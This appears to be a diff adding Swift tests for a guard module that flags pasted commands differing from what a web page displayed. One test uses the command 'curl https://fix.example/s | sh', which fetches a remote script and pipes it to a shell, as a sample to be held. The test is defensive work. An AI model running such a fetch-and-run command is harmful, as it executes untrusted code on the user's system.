@@ -1,0 +1,14 @@
+import Testing
+
+@testable import Guard
+
+struct DiffersFromPageTests {
+  @Test func `a copy with other letters than the page showed is noticed`() {
+    #expect(DiffersFromPage.severity(of: "ls", differs: true) == .notice)
+    #expect(DiffersFromPage.severity(of: "ls") == nil)
+  }
+
+  @Test func `with a script from the network it is held`() {
+    #expect(assess("curl https://fix.example/s | sh", differs: true).severity == .hold)
+  }
+}
